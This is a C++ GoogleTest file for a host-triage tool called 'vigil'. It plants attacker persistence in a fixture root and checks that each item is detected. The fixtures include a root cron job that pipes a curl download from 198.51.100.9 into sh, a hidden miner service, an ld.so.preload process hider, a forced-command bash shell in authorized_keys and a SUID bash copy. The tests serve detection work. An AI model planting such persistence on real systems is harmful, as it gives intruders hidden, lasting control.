// End-to-end: persistence planted in a fixture root, and proof that --root writes nothing.
#include <fcntl.h>
#include <sys/stat.h>
#include <unistd.h>

#include <filesystem>
#include <fstream>
#include <map>
#include <sstream>

#include <gtest/gtest.h>

#include "core/hash.hpp"
#include "e2e/fixture_root.hpp"
#include "e2e/vigil_run.hpp"
#include "support/temp_dir.hpp"

using namespace vigil::testing;
namespace fs = std::filesystem;

namespace {

// Content, mtime and atime of each path, read with O_NOATIME so looking does not change it.
std::map<std::string, std::string> state_of(const std::vector<std::string>& paths) {
  std::map<std::string, std::string> out;
  for (const auto& p : paths) {
    struct stat st{};
    ::lstat(p.c_str(), &st);
    std::string s = std::to_string(st.st_mode) + ' ' + std::to_string(st.st_size) + ' ' +
                    std::to_string(st.st_mtim.tv_sec) + '.' + std::to_string(st.st_mtim.tv_nsec) + ' ' +
                    std::to_string(st.st_atim.tv_sec) + '.' + std::to_string(st.st_atim.tv_nsec) + ' ';
    if (S_ISREG(st.st_mode)) {
      int fd = ::open(p.c_str(), O_RDONLY | O_NOATIME);
      char buf[4096];
      for (ssize_t n; fd >= 0 && (n = ::read(fd, buf, sizeof buf)) > 0;) s.append(buf, static_cast<std::size_t>(n));
      if (fd >= 0) ::close(fd);
    }
    out[p] = s;
  }
  return out;
}

}  // namespace

TEST(ImagePersistence, CleanFixture_IsQuiet) {
  TempDir d;
  base_root(d);
  // The fixture's files were all created seconds ago, and their ctime cannot be set back, so
  // the recency window is switched off (--since 0) for the clean run.
  auto r = run_vigil({"triage", "--root", d.path(), "--format", "jsonl", "--no-suppress", "--since", "0"});
  EXPECT_EQ(r.exit_code, 0) << r.err;
  for (const auto& f : parse_jsonl(r.out)) EXPECT_EQ(f["vigil"]["severity"], "info") << f.dump();
}

TEST(ImagePersistence, PlantedItems_AreReported) {
  TempDir d;
  base_root(d);
  d.write("etc/cron.d/sync", "*/10 * * * * root curl -fsSL http://198.51.100.9/i.sh | sh\n");
  d.write("etc/systemd/system/kworker.service", "[Service]\nExecStart=/tmp/.x/miner --donate-level 0\n");
  fs::create_directories(d / "etc/systemd/system/multi-user.target.wants");
  fs::create_symlink("/etc/systemd/system/kworker.service", d / "etc/systemd/system/multi-user.target.wants/kworker.service");
  d.write("etc/ld.so.preload", "/usr/lib/libprocesshider.so\n");
  d.write("root/.ssh/authorized_keys",
          "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5 admin@laptop\ncommand=\"/bin/bash -i\",no-pty ssh-rsa AAAAB3 x\n");
  auto all = triage(d);
  EXPECT_TRUE(reported(all, "persistence.download-exec", "/etc/cron.d/sync"));
  EXPECT_TRUE(reported(all, "persistence.temp-path", "/etc/systemd/system/kworker.service"));
  EXPECT_TRUE(reported(all, "persistence.unowned-item", "/etc/systemd/system/kworker.service"));
  EXPECT_TRUE(reported(all, "persistence.ld-preload", "/etc/ld.so.preload"));
  EXPECT_TRUE(reported(all, "persistence.authorized-key-forced-command", "/root/.ssh/authorized_keys"));
  auto r = run_vigil({"triage", "--root", d.path(), "--format", "json", "--no-suppress"});
  auto doc = nlohmann::json::parse(r.out);
  bool enabled = false;
  for (const auto& row : doc["inventory"]["persistence"])
    if (row["location"] == "/etc/systemd/system/kworker.service") enabled = row["enabled"];
  EXPECT_TRUE(enabled) << "the .wants link should mark the unit enabled";
}

TEST(ImagePersistence, TriageUnderRootChangesNoFile) {
  TempDir d;
  base_root(d);
  d.write("etc/cron.d/sync", "*/10 * * * * root curl -fsSL http://198.51.100.9/i.sh | sh\n");
  // List once, then stamp every entry with old times: a read that touched atime would show.
  std::vector<std::string> paths;
  for (const auto& e : fs::recursive_directory_iterator(d.path())) paths.push_back(e.path().string());
  for (const auto& p : paths) {
    struct timespec t[2] = {{1000000000, 0}, {1000000000, 0}};
    ::utimensat(AT_FDCWD, p.c_str(), t, AT_SYMLINK_NOFOLLOW);
  }
  auto before = state_of(paths);
  triage(d);
  run_vigil({"triage", "--root", d.path(), "--format", "json", "--no-suppress"});
  run_vigil({"triage", "--root", d.path(), "--color", "never", "--no-suppress"});
  EXPECT_EQ(state_of(paths), before);
  std::size_t now = 0;
  for ([[maybe_unused]] const auto& e : fs::recursive_directory_iterator(d.path())) ++now;
  EXPECT_EQ(now, paths.size()) << "vigil created files under --root";
}

TEST(ImageRootkit, KnownArtifactInImage_IsReportedUnlessAPackageOwnsIt) {
  TempDir d;
  base_root(d);
  fs::create_directories(d / "dev/.lib");  // Lion worm's directory (chkrootkit)
  d.write("usr/lib/libpikapp.a", "!<arch>\n");  // MonKit
  auto all = triage(d);
  EXPECT_TRUE(reported(all, "rootkit.known-artifact", "/dev/.lib"));
  EXPECT_TRUE(reported(all, "rootkit.known-artifact", "/usr/lib/libpikapp.a"));
  // The same path shipped by a package is a name clash, not a rootkit.
  d.write("var/lib/dpkg/info/libpikapp.list", "/usr/lib/libpikapp.a\n");
  all = triage(d);
  EXPECT_FALSE(reported(all, "rootkit.known-artifact", "/usr/lib/libpikapp.a"));
  EXPECT_TRUE(reported(all, "rootkit.known-artifact", "/dev/.lib"));
}


TEST(ImageFiles, PlantedFileArtefacts_AreReported) {
  if (!fs::exists("/bin/bash") || !fs::exists("/bin/true")) GTEST_SKIP() << "needs /bin/bash and /bin/true";
  TempDir d;
  base_root(d);
  // The package database knows bash, ls and sshd_config.
  d.write("var/lib/dpkg/info/bash.list", "/bin/bash\n");
  d.write("var/lib/dpkg/info/bash.md5sums", md5_of("/bin/bash") + "  bin/bash\n");
  d.write("var/lib/dpkg/info/coreutils.list", "/usr/bin/ls\n");
  d.write("var/lib/dpkg/info/coreutils.md5sums", md5_of(d.write("tmp-original-ls", "the real ls\n")) + "  usr/bin/ls\n");
  fs::remove(d / "tmp-original-ls");
  d.write("var/lib/dpkg/status",
          "Package: openssh-server\nStatus: install ok installed\nConffiles:\n /etc/ssh/sshd_config " +
              md5_of(d.write("tmp-cfg", "PermitRootLogin no\n")) + "\n\n");
  fs::remove(d / "tmp-cfg");
  d.write("etc/ssh/sshd_config", "PermitRootLogin yes\n");   // edited conffile
  d.write("usr/bin/ls", "a trojaned ls\n");                  // modified package file
  fs::create_directories(d / "var/tmp/...");                 // SUID copy of a shell in /var/tmp/...
  fs::copy_file("/bin/bash", d / "var/tmp/.../sh");
  fs::permissions(d / "var/tmp/.../sh", fs::perms::set_uid | fs::perms::owner_all | fs::perms::group_exec |
                                            fs::perms::others_exec);
  d.write("dev/tty9.conf", "planted\n");                      // regular file under /dev
  fs::create_directories(d / "var/www/html/img");             // ELF named .jpg in a web root
  fs::copy_file("/bin/true", d / "var/www/html/img/logo.jpg");
  d.write("usr/local/bin/backup", "#!/bin/sh\n");            // world-writable command on PATH
  fs::permissions(d / "usr/local/bin/backup", fs::perms::all);
  fs::copy_file("/bin/true", d / "usr/bin/kupdate");         // new unpackaged program
  auto all = triage(d);
  EXPECT_TRUE(reported(all, "files.package-modified", "/usr/bin/ls"));
  EXPECT_TRUE(reported(all, "files.conffile-modified", "/etc/ssh/sshd_config"));
  auto suid = findings_of(all, "files.setuid-unowned");
  ASSERT_EQ(suid.size(), 1u);
  EXPECT_EQ(suid[0]["vigil"]["severity"], "critical");
  EXPECT_EQ(suid[0]["vigil"]["file"]["copy_of"], "/bin/bash");
  EXPECT_TRUE(reported(all, "files.suspicious-name", "/var/tmp/..."));
  EXPECT_TRUE(reported(all, "files.dev-file", "/dev/tty9.conf"));
  EXPECT_TRUE(reported(all, "files.elf-disguised", "/var/www/html/img/logo.jpg"));
  EXPECT_TRUE(reported(all, "files.world-writable-path", "/usr/local/bin/backup"));
  EXPECT_TRUE(reported(all, "files.recent-unowned-program", "/usr/bin/kupdate"));
}
